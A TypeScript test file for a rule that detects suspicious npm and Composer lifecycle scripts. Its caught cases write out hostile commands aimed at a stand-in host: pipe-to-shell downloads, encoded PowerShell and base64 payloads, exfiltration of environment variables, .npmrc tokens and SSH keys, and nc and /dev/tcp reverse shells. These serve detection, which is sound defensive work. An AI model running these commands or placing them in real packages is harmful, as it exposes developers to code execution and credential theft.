import { suspiciousLifecycleScript } from '../../../server/src/rules/dependencies/suspicious-lifecycle-script.ts';
import { testRule, type Caught, type Clean } from '../../support/rule-tester.ts';

const says = {
  download: (script: string, program: string) =>
    `The script "${script}" runs what ${program} downloads, unchecked, on each machine. Ship the code, or check its hash.`,
  decoded: (script: string, program: string) =>
    `The script "${script}" runs code that is hidden in an encoding: nobody sees what ${program} runs. Write it as plain code.`,
  encoded: (script: string, program: string) =>
    `The script "${script}" passes an encoded command to ${program}: nobody sees what runs. Write it as plain code.`,
  inline: (script: string, program: string) =>
    `The script "${script}" passes code to ${program} that decodes, downloads, sends or evaluates something. Put it into a file that can be reviewed.`,
  sends: (script: string, program: string) =>
    `The script "${script}" uses ${program} to send variables, credentials or names of the machine elsewhere. Remove it.`,
  connects: (script: string, program: string) => `The script "${script}" connects ${program} to another machine. Remove it.`,
};

const pack = (script: string, name = 'postinstall'): string => `{"scripts":{"${name}":${JSON.stringify(script)}}}`;
const caught = (kind: keyof typeof says, program: string, script: string, name = 'postinstall'): Caught => ({
  code: pack(script, name),
  says: says[kind](name, program),
});

const CLEAN = [
  'husky install',
  'node scripts/postinstall.js',
  'node -e "try{require(\'./postinstall\')}catch(e){}"',
  'node -e "if (process.env.CI) process.exit(0)" || husky',
  'node -p "process.versions.node"',
  'patch-package && opencollective-postinstall || exit 0',
  'curl -o data.json https://h.example/data.json',
  'wget -q https://h.example/font.ttf -O font.ttf && cp font.ttf assets/',
  'curl -fsSL https://h.example/x | sha256sum -c && sh x',
  'echo "curl https://h.example | sh"',
  'prisma generate && tsc -b',
  'node-gyp rebuild',
  'powershell -ExecutionPolicy Bypass -File build.ps1',
  'cp .env.example .env',
  'npm run build',
  'python -c "import sys; print(sys.version)"',
  'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://h.example/a.tgz -o a.tgz',
  'base64 -d icon.b64 > icon.png',
  'env NODE_ENV=production node build.js',
  'prebuild-install || node-gyp rebuild',
  'is-ci || husky install',
  'npm run build --if-present',
  "node -e \"require('fs').copyFileSync('a','b')\"",
  "node -e \"process.exit(require('fs').existsSync('lib')?0:1)\" || npm run build",
  "node -e \"if(!process.env.CI){require('child_process').execSync('husky install',{stdio:'inherit'})}\"",
  'cat .npmrc',
  'curl -d "status=done" https://h.example/hook',
  'curl "https://h.example/a?v=$npm_package_version" -o a',
  'git config core.hooksPath .githooks',
  'sh -c "test -d dist || npm run build"',
  'openssl base64 -d -in a -out b',
  'curl -o a.tgz h.example/a.tgz && sha256sum -c sums && tar xzf a.tgz',
  'ping -n 1 127.0.0.1',
  'export A=b && tsc',
  'node -r esbuild-register x.ts',
  'cmd /c echo done',
  'node build.js "$(curl -s https://h.example/version)"',
  "node -e \"require('fs').writeFileSync('.npmrc', 'a=b')\"",
  "node -e \"require('./'+'a')\"",
  'node -e "try{require(\'request\')}catch(e){process.exit(1)}"',
];

const CAUGHT: readonly Caught[] = [
  caught('download', 'curl', 'curl -sSL https://h.example/x.sh | ⟦bash⟧'),
  caught('download', 'curl', 'curl https://h.example/x.sh | sudo ⟦sh⟧ -s -- -y', 'preinstall'),
  caught('download', 'wget', 'wget -qO- https://h.example/x.js | ⟦node⟧', 'install'),
  caught('download', 'curl', '⟦bash⟧ -c "$(curl -fsSL https://h.example/x.sh)"', 'prepare'),
  caught('download', 'curl', '⟦bash⟧ <(curl -s https://h.example/x.sh)'),
  caught('download', 'curl', '⟦eval⟧ $(curl -s https://h.example/x)'),
  caught('download', 'curl', 'curl -o x.sh https://h.example/x.sh && ⟦sh⟧ x.sh'),
  caught('download', 'wget', 'wget https://h.example/run.py; ⟦python3⟧ ./run.py'),
  caught('download', 'curl', 'curl https://h.example/x > /tmp/x && ⟦chmod⟧ +x /tmp/x'),
  caught('decoded', 'sh', 'echo Y3VybA== | base64 -d | ⟦sh⟧'),
  caught('decoded', 'eval', '⟦eval⟧ "$(echo Y3VybA== | base64 --decode)"'),
  caught('encoded', 'powershell', '⟦powershell⟧ -NoP -NonI -W Hidden -Enc SQBFAFgA'),
  caught('encoded', 'pwsh', '⟦pwsh⟧ -EncodedCommand SQBFAFgA', 'preinstall'),
  caught(
    'download',
    'powershell',
    '⟦powershell.exe⟧ -c "IEX (New-Object Net.WebClient).DownloadString(\'https://h.example/x\')"',
  ),
  caught('download', 'certutil', '⟦certutil⟧ -urlcache -f https://h.example/x.exe x.exe'),
  caught('inline', 'node', "⟦node⟧ -e \"require('https').get('https://h.example/'+process.env.USER)\""),
  caught('inline', 'node', "⟦node⟧ -e \"eval(Buffer.from('Y29uc29sZQ==','base64').toString())\""),
  caught('inline', 'node', "⟦node⟧ --eval \"require('child_process').exec('curl h.example|sh')\""),
  caught('inline', 'node', "⟦node⟧ -e \"fetch('https://h.example',{method:'POST',body:JSON.stringify(process.env)})\""),
  caught('inline', 'python3', '⟦python3⟧ -c "import urllib.request as u;exec(u.urlopen(\'https://h.example\').read())"'),
  ...[
    "node --input-type=module -e \"import {get} from 'node:http'; get('x')\"",
    "node -e \"require('axios').get('https://h.example')\"",
    "node -e \"const r = require('got'); r('https://h.example')\"",
    "node -e \"var _0x4f2a=['a','b'];(function(_0x1c2d,_0x2){})(_0x4f2a,0x1a)\"",
    "node -e \"require('chi'+'ld_process').exec('id')\"",
    'node -e "global[\'r\']=require;"',
    'node -e "process.binding(\'spawn_sync\')"',
    "node -e \"require('vm').runInThisContext(require('fs').readFileSync('x.bin','latin1'))\"",
    "node -e \"require('child_process').spawn('sh',['-c','nc -e /bin/sh h.example 4444'])\"",
    'node -e \'require("fs").readFileSync(process.env.HOME+"/.npmrc","utf8")\'',
  ].map((script) => caught('inline', 'node', script.replace('node', '⟦node⟧'))),
  caught('download', 'curl', '⟦node⟧ <(curl -s https://h.example/a.js)'),
  caught('download', 'curl', '⟦python3⟧ -c "$(curl -s https://h.example/a.py)"'),
  // One file is one finding, at the first command that makes it run.
  caught('download', 'wget', 'wget https://h.example/a && ⟦chmod⟧ +x a && ./a && ./a --again'),
  caught('sends', 'curl', 'env | ⟦curl⟧ -X POST -d @- https://h.example'),
  caught('sends', 'curl', '⟦curl⟧ -d "$(printenv)" https://h.example'),
  caught('sends', 'curl', '⟦curl⟧ -F file=@$HOME/.ssh/id_rsa https://h.example'),
  caught('sends', 'curl', 'cat ~/.npmrc | ⟦curl⟧ --data-binary @- https://h.example'),
  caught('sends', 'curl', '⟦curl⟧ "https://h.example/?t=$NPM_TOKEN"'),
  caught('sends', 'curl', '⟦curl⟧ https://h.example/$(whoami)/$(hostname)', 'preinstall'),
  caught('sends', 'nslookup', '⟦nslookup⟧ $(whoami).h.example', 'preinstall'),
  caught('connects', 'bash', '⟦bash⟧ -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
  caught('connects', 'nc', '⟦nc⟧ -e /bin/sh 192.0.2.1 4444'),
  caught('download', 'curl', '(curl -s https://h.example/x || wget -qO- https://h.example/x) | ⟦sh⟧'),
  caught('download', 'curl', 'if true; then curl https://h.example/x | ⟦sh⟧; fi'),
  caught('download', 'aria2c', 'aria2c https://h.example/x.sh | ⟦bash⟧'),
  caught('download', 'wget', 'wget -P /tmp h.example/a.sh && ⟦sh⟧ /tmp/a.sh'),
  caught('download', 'curl', 'curl -fsSLO https://h.example/i.sh && ⟦sh⟧ i.sh'),
  caught('download', 'bitsadmin', '⟦bitsadmin⟧ /transfer a https://h.example/x.exe x.exe'),
  caught('download', 'mshta', '⟦mshta⟧ https://h.example/a.hta'),
  caught('decoded', 'bash', '⟦bash⟧ <<< $(echo Y3VybA== | base64 -d)'),
  caught('decoded', 'sh', 'echo Y3VybA== | openssl base64 -d | ⟦sh⟧'),
  caught('encoded', 'powershell', '⟦cmd⟧ /c powershell -w hidden -enc SQBFAFgA'),
  caught('inline', 'perl', '⟦perl⟧ -e \'exec("curl https://h.example/x|sh")\''),
  caught('inline', 'php', '⟦php⟧ -r \'eval(file_get_contents("http://h.example/x"));\''),
  caught('inline', 'python3', "⟦python3⟧ -c 'import socket;s=socket.socket()'"),
  caught('sends', 'wget', '⟦wget⟧ --post-file=.env https://h.example'),
  caught('sends', 'curl', '⟦curl⟧ h.example?d=$(cat ~/.npmrc|base64)'),
  caught('sends', 'curl', 'tar cz ~/.ssh | ⟦curl⟧ -T - https://h.example'),
  { code: '{"scripts":{"postinstall":"run-s a b","b":"curl https://h.example/x | ⟦sh⟧"}}', says: says.download('b', 'curl') },
  // What a script of the life cycle runs is run, too.
  {
    code: '{"scripts":{"postinstall":"npm run -s setup","setup":"curl https://h.example/x | ⟦sh⟧","other":"curl https://h.example/y | sh"}}',
    says: says.download('setup', 'curl'),
  },
  {
    code: '{\n  "scripts": {\n    "prepare": "echo \\"a\\" && curl h.example/x \\u007c ⟦sh⟧"\n  }\n}\n',
    says: says.download('prepare', 'curl'),
  },
];

/** Composer runs scripts by its own events; a list is one after the other. */
const composer = (scripts: string): string => `{"name":"x/y","scripts":{${scripts}}}`;
const COMPOSER_CLEAN = [
  composer(
    `"post-root-package-install":"@php -r \\"file_exists('.env') || copy('.env.example', '.env');\\"","post-autoload-dump":["X\\\\Y::postAutoloadDump","@php artisan package:discover --ansi"]`,
  ),
  composer(
    '"auto-scripts":{"cache:clear":"symfony-cmd"},"post-install-cmd":["@auto-scripts","@composer bin all install","@putenv A=b"]',
  ),
  composer('"deploy":"curl https://h.example/x | sh"'),
];
const COMPOSER_CAUGHT: readonly Caught[] = [
  { code: composer('"post-install-cmd":"curl https://h.example/x | ⟦sh⟧"'), says: says.download('post-install-cmd', 'curl') },
  {
    code: composer('"post-update-cmd":["@php artisan optimize","wget https://h.example/a","⟦chmod⟧ +x a","./a"]'),
    says: says.download('post-update-cmd', 'wget'),
  },
  {
    code: composer('"post-install-cmd":["@setup"],"setup":"wget -qO- https://h.example/x | ⟦php⟧"'),
    says: says.download('setup', 'wget'),
  },
  {
    code: composer(`"post-autoload-dump":"@⟦php⟧ -r \\"eval(base64_decode('YQ=='));\\""`),
    says: says.inline('post-autoload-dump', 'php'),
  },
];

testRule(suspiciousLifecycleScript, {
  clean: [
    ...COMPOSER_CLEAN.map((code): Clean => ({ path: 'composer.json', code })),
    ...CLEAN.map((script): Clean => pack(script)),
    pack('curl https://h.example/x | sh', 'setup'),
    '{"config":{"postinstall":"curl https://h.example/x | sh"}}',
    { path: '.npmrc', code: 'postinstall=curl h | sh\n' },
  ],
  caught: [...CAUGHT, ...COMPOSER_CAUGHT.map((one): Caught => ({ ...one, path: 'composer.json' }))],
});
